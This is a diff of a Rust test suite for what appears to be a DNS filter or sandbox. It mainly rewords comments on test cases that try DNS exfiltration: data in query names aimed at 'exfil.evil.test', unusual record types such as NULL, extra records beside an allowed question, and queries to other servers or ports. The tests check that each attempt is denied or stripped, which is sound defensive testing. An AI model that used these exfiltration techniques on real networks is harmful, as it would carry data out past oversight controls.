@@ -1,4 +1,4 @@
-//! Attacks by DNS: data in questions and beside them, other servers, and answers that lie.
+//! Attacks by DNS: data in questions and in other parts of queries, and other servers.
 
 use wire::dns::Type;
 
@@ -11,14 +11,15 @@ const OTHER6: &str = "[2001:db8:1::4]:53";
 const NO_QUERY: &[&str] = &["not a query with one question (rules by name)"];
 const ALLOWED: &str = "www.allowed.test";
 
-/// An allowed question whose message is changed.
+/// A query with an allowed question, after `change`.
 fn changed(change: impl FnOnce(&mut Vec<u8>)) -> Vec<u8> {
     let mut message = question(ALLOWED, Type::A);
     change(&mut message);
     message
 }
 
-/// An allowed question with a record in a section: 6, 8 or 10 is the offset of the section's number of records.
+/// A query with an allowed question and a record. `count_at` selects the record's section: it is the offset (6, 8 or
+/// 10) of the section's number of records.
 fn with_record(count_at: usize, record: &[u8]) -> Vec<u8> {
     changed(|message| {
         message[count_at + 1] = 1;
@@ -26,19 +27,20 @@ fn with_record(count_at: usize, record: &[u8]) -> Vec<u8> {
     })
 }
 
-/// The resolver gets this query, whatever else the guest has sent.
+/// Asserts that the last query at the resolver is `expected`, apart from its ID.
 fn assert_asked(fort: &Fort<'_>, expected: &[u8]) {
     assert_eq!(fort.resolver.last()[2..], expected[2..]);
 }
 
-/// Asks an allowed question. All else in the message is not passed on.
+/// Sends a query with an allowed question. The resolver must get the question only.
 fn neutral(fort: &Fort<'_>, message: &[u8]) -> Outcome {
     let outcome = fort.ask(message);
     assert_asked(fort, &question(ALLOWED, Type::A));
     outcome
 }
 
-/// Likewise, with an OPT record, of which the resolver gets this size and nothing else.
+/// Sends a query with an allowed question and an OPT record. The resolver must get the question, and an OPT record with
+/// nothing but this payload size.
 fn neutral_opt(fort: &Fort<'_>, opt: &[u8], size: u16) -> Outcome {
     let outcome = fort.ask(&with_record(10, &[&b"\0\0\x29"[..], opt].concat()));
     let expected = [&b"\0\0\x29"[..], &size.to_be_bytes(), &[0; 6]].concat();
@@ -52,7 +54,7 @@ fn longest() -> Vec<u8> {
     [label(63), label(63), label(63), label(61), vec![0]].concat()
 }
 
-/// Data in the names of questions.
+/// Queries with data in the names of questions.
 pub(super) const NAMES: &[Attempt] = &[
     attempt("A", NoName, &["asked for exfil.evil.test A", DENIED], |f| {
         f.ask(&question("exfil.evil.test", Type::A))
@@ -126,7 +128,7 @@ pub(super) const NAMES: &[Attempt] = &[
     }),
 ];
 
-/// Questions that are of no use to a client, about allowed names.
+/// Questions about allowed names, of types and classes that clients do not need.
 pub(super) const KINDS: &[Attempt] = &[
     attempt("NULL", NoData, &["www.allowed.test NULL", "arbitrary data"], |f| {
         f.ask(&question(ALLOWED, Type::NULL))
@@ -182,7 +184,7 @@ pub(super) const KINDS: &[Attempt] = &[
     }),
 ];
 
-/// Data beside an allowed question: the resolver does not get it.
+/// Queries with an allowed question, and data elsewhere in the message. The resolver does not get this data.
 pub(super) const BESIDE: &[Attempt] = &[
     attempt("letters of an allowed name", Answered, &[], |f| {
         let mixed = question("wWw.AlLoWeD.tEsT", Type::A);
@@ -224,7 +226,7 @@ pub(super) const BESIDE: &[Attempt] = &[
     }),
 ];
 
-/// Other servers, other transports, other ports.
+/// Queries to other servers, over other transports, and to other ports.
 pub(super) const SERVERS: &[Attempt] = &[
     attempt("another server", NoName, &["asked for exfil.evil.test A", DENIED], |f| {
         f.ask_at(OTHER, &question("exfil.evil.test", Type::A)).0
